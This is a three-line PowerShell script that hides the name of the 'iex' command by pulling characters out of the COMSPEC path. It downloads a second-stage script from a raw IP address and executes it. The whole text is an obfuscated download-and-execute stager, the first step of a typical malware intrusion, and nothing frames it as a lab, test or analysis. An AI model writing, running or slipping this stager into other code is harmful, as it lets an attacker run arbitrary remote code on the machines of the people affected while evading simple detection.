$x = $env:comspec[4,15,25] -join ''
$r = irm http://198.51.100.23/stage2.ps1
& $x $r
